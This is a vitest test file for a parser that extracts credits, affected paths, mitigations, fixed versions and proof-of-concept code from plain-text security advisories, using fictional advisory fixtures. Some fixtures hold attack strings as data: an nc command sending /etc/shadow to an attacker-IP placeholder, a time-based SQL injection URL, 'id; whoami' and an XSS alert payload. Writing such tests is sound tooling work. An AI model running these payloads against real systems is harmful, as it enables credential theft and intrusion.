// Phrasings of security firms' plain-text advisories (the thirty-ninth corpus batch, one
// advisory per firm from Exploit-DB): lines of tildes that rule off the parts, headings drawn
// in boxes or alone on a line, a copyright footer with the firm's pages and licence, credit
// given as an address, a fix version on the next, indented line. Each value is pinned as a
// triager would write it.
import { describe, expect, it } from 'vitest';
import { extractedFields } from '../../test/helpers/extracted-fields.js';
import { codeBlocks } from './blocks.js';
import { extractReport } from './extract.js';

const fields = extractedFields;
const RULE = '~'.repeat(80);

describe("a firm's plain-text advisory", () => {
  it('reads a line of 80 tildes as a rule between parts, not a fence that makes the prose code', () => {
    const text = `Product: Acme Vision\n\n${RULE}\n\nCredits:\n\nThis security vulnerability was found by Jane Roe of Acme GmbH.\n\n${RULE}\n`;
    expect(codeBlocks(text)).toEqual([]);
    expect(fields(text).credit).toEqual({ kind: 'name', name: 'Jane Roe' });
    // A fence as people write it still fences.
    expect(codeBlocks('Run:\n\n~~~\nid; whoami\n~~~\n')).toHaveLength(1);
  });

  it('credits the author of the advisory, the lab that "discovered and provided" it, and the person an address names', () => {
    expect(fields('Author of Advisory: Jane Roe, Acme GmbH\n\nAn SQL injection in the login.').credit).toEqual({ kind: 'name', name: 'Jane Roe' });
    expect(fields('Risk Level: High\nDiscovered and Provided: Acme Security Research Lab ( https://acme.example/advisory/ )\n').credit).toEqual({
      kind: 'name',
      name: 'Acme Security Research Lab',
    });
    expect(fields('Title: Acme CMS multiple vulnerabilities\nCredit:  jane.roe@acme-security.example\n').credit).toEqual({ kind: 'name', name: 'Jane Roe' });
    // An address that is no first and last name gives the handle it is.
    // (Its mailbox: a published credit shows the handle, not the address; batch 45's labels read "leinakesi[at]gmail.com" so.)
    expect(fields('Credit: h4x0r@acme-security.example\n').credit).toEqual({ kind: 'handle', name: 'h4x0r' });
  });

  it("takes no place from the footer after the copyright notice: the firm's pages, its policy, the licence", () => {
    const body = 'The confd service accepts a replayed SID on /webadmin.plx and runs commands as root.\n'.repeat(8);
    const footer =
      '\nThe contents of this advisory are copyright(c) 2018 Acme, Inc. and are licensed under a Creative Commons\nAttribution Share-Alike 4.0 License:\nhttp://creativecommons.org/licenses/by-sa/4.0/\n\nAcme is a security firm.\nhttps://www.acme-security.com/about-acme.html\n\nOur disclosure policy is available at:\nhttps://www.acme-security.com/Disclosure-Policy.v2.2.txt\n';
    expect(fields(body + footer).locations).toEqual(['/webadmin.plx']);
    // A notice that heads the advisory is no footer: the report follows it.
    expect(fields(`Copyright (c) 2018 Acme, Inc. This advisory may be shared.\n\n${body}`).locations).toEqual(['/webadmin.plx']);
  });

  it('takes no licence link given on a "URL:" line, nor the links under a "--- References ---" rule', () => {
    expect(
      fields(
        'The bug is in /admin/export.php.\n\nCopyright:\n\nCreative Commons - Attribution (by) - Version 3.0\nURL: https://creativecommons.org/licenses/by/3.0/deed.en\n',
      ).locations,
    ).toEqual(['/admin/export.php']);
    expect(
      fields('The bug is in /qstorapi.\n\n9. --- References ---\n\n    [1] https://www.acme.example/software-defined-storage/\n\n10. --- Copyright ---\n')
        .locations,
    ).toEqual(['/qstorapi']);
  });

  it("takes no XML namespace's name for a place", () => {
    const text = 'POST /qstorapi HTTP/1.1\nHost: 10.0.0.5\n\n<objectGet xmlns="http://storage.acme.example/webservices/osn.xsd"><id>1</id></objectGet>\n';
    expect(fields(text).locations).toEqual(['/qstorapi']);
  });

  it('reads a heading drawn in a box, and one alone on its line, as the section it names', () => {
    expect(
      fields('Details here.\n\n+----------+\n+ Solution +\n+----------+\nUpgrade to latest version.\n\n+----------+\n+ Timeline +\n+----------+\n').mitigation,
    ).toBe('Upgrade to latest version.');
    expect(fields('Details here.\n\n4. Mitigation and Remediation Recommendation\n\n     Apply the vendor patch.\n').mitigation).toBe(
      'Apply the vendor patch.',
    );
  });

  it('takes no mitigation from a section that says there is none, a heading alone on the line above it', () => {
    const text = 'The page fails to check access.\n\n\nSolution\nNo solution is available at the time of writing.\nThe vendor stopped responding.\n';
    expect(fields(text).mitigation).toBeUndefined();
    // A fix first, then no workaround, is a fix.
    expect(fields('Solution:\nUpgrade to 2.0.\nNo workaround is available.\n').mitigation).toMatch(/^Upgrade to 2\.0\./);
  });

  it('reads the fixed version a wrapped, indented sentence puts on its next line', () => {
    expect(fields('4. Mitigation\n\n     The vendor has addressed this vulnerability in version\n     9.508. Release notes are online.\n').fixedVersion).toBe(
      '9.508',
    );
  });

  it('names the product with its vendor when the title writes them so, and without a former name', () => {
    const head =
      'Title: Acme Gate 9 loginuser Privilege Escalation via confd\n\n1. Vulnerability Details\n\n     Affected Vendor: Acme\n     Affected Product: Gate 9\n     Affected Version: 9.410\n';
    expect(fields(head).component).toBe('Acme Gate 9');
    // A title that does not put the vendor before the product keeps the product's name.
    expect(fields(head.replace('Acme Gate 9 loginuser', 'Gate 9 loginuser')).component).toBe('Gate 9');
    expect(fields('Product:  ProjectSend (previously cFTP)\nVendor:  www.projectsend.org\n').component).toBe('ProjectSend');
  });

  it('reads a numbered title framed by rules as a section, and a major release alone under it', () => {
    const text =
      '4. --- Affected software versions ---\n\n              Acme Store v4 virtual appliance\n\n5. --- Technical description ---\n\n    5.1 --- User enumeration ---\n\n        The login returns different messages.\n';
    expect(fields(text).affectedVersions).toBe('4');
    // In prose "v4" is no version: an IP or CVSS version as often.
    expect(fields('The service listens on IPv4 and v4 of the API only.').affectedVersions).toBeUndefined();
  });

  it('splits an advisory whose issues are numbered sub-sections set off by rules ("5.2 --- Cross Site Scripting in …")', () => {
    const text =
      '5. --- Technical description ---\n\n    5.1 --- User enumeration ---\n\n        The login says whether a user exists.\n\n    5.2 --- Cross Site Scripting in "qsCall" parameter\n\n        The qsCall value is echoed.\n\n    5.3 --- Cross Site Scripting in "/api/jsonrpc"\n\n        The method name is echoed.\n\n6. --- Credits ---\n';
    const parts = extractReport({ text, subject: null }).multiple ?? [];
    expect(parts.map((p) => p.title)).toEqual(['User enumeration', 'Cross Site Scripting in "qsCall" parameter', 'Cross Site Scripting in "/api/jsonrpc"']);
  });

  it("reads an indented CWE name with its aside in brackets as a label's value, not code", () => {
    expect(codeBlocks("Class:\n    CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')\n")).toEqual([]);
    expect(codeBlocks('Payload:\n    alert(document.domain)\n')).toHaveLength(1);
  });

  it('takes the code between two "-----code snippet-----" lines for the PoC, but not what PGP armours', () => {
    const text =
      '6. At File Template (copy and paste the below):\n-----code snippet-----\n#!/bin/sh\n/usr/bin/nc <attacker_ip> 1234 < /etc/shadow\n-----code snippet-----\n\n7. Save.\n';
    expect(fields(text).poc).toBe('#!/bin/sh\n/usr/bin/nc <attacker_ip> 1234 < /etc/shadow');
    expect(codeBlocks('-----BEGIN PGP SIGNATURE-----\niQIzBAEBCAAdFiEE\n-----END PGP SIGNATURE-----\n')).toEqual([]);
  });

  it('takes the paragraph a line hands over as the exploit: a URL wrapped over lines', () => {
    const text =
      'Below is a simple SQL Injection exploit, which uses a time-based technique:\n\nhttp://[host]/ajax/getDropdown.php?fromtype=Computer&page_limit=1%20PROCEDURE%20analyse%28%28select%20extractval\nue%28rand%28%29%29%29,1%29\n\nThe page then loads slowly.\n';
    expect(fields(text).poc).toMatch(/^http:\/\/\[host\]\/ajax\/getDropdown\.php\?fromtype=Computer.*\nue%28rand/s);
    // A line that introduces prose hands over no payload.
    expect(fields('The exploit works as follows:\n\nThe attacker logs in and opens the settings page.\n').poc).toBeUndefined();
  });

  it('reads no steps from the numbered section titles set off by rules', () => {
    const text =
      '1. --- Advisory details ---\n\nTitle: Acme Store XSS\n\n2. --- Vulnerability details ---\n\nClass: CWE-79\n\n3. --- Vulnerability Description ---\n\n    Acme Store is a storage appliance.\n';
    expect(fields(text).steps).toBeUndefined();
  });
});
